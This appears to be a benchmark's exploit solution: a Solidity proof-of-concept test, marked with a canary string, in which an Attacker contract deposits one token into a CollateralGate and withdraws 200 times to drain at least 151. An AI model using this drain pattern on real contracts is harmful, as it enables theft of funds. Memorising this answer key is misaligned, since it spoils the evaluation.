// SPDX-License-Identifier: AGPL-3.0-only
pragma solidity 0.8.30;

// assay-canary-19c91a33-13db-4307-8ceb-653928c9b402
import "../Base.sol";

contract Attacker {
    function run(IERC20 gold, CollateralGate gate) external {
        gold.approve(address(gate), type(uint256).max);
        gate.deposit(1, address(this));
        for (uint256 i = 0; i < 200; i++) {
            gate.withdraw(1, address(this));
        }
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        gold.mint(address(other), 1);
    }

    function exploit() public {
        other.run(gold, gold_gate);
    }

    function test_Exploit() public {
        exploit();
        require(gold.balanceOf(address(other)) >= 151, "no gain");
    }

    function target() public view override returns (address) {
        return address(gold_gate);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
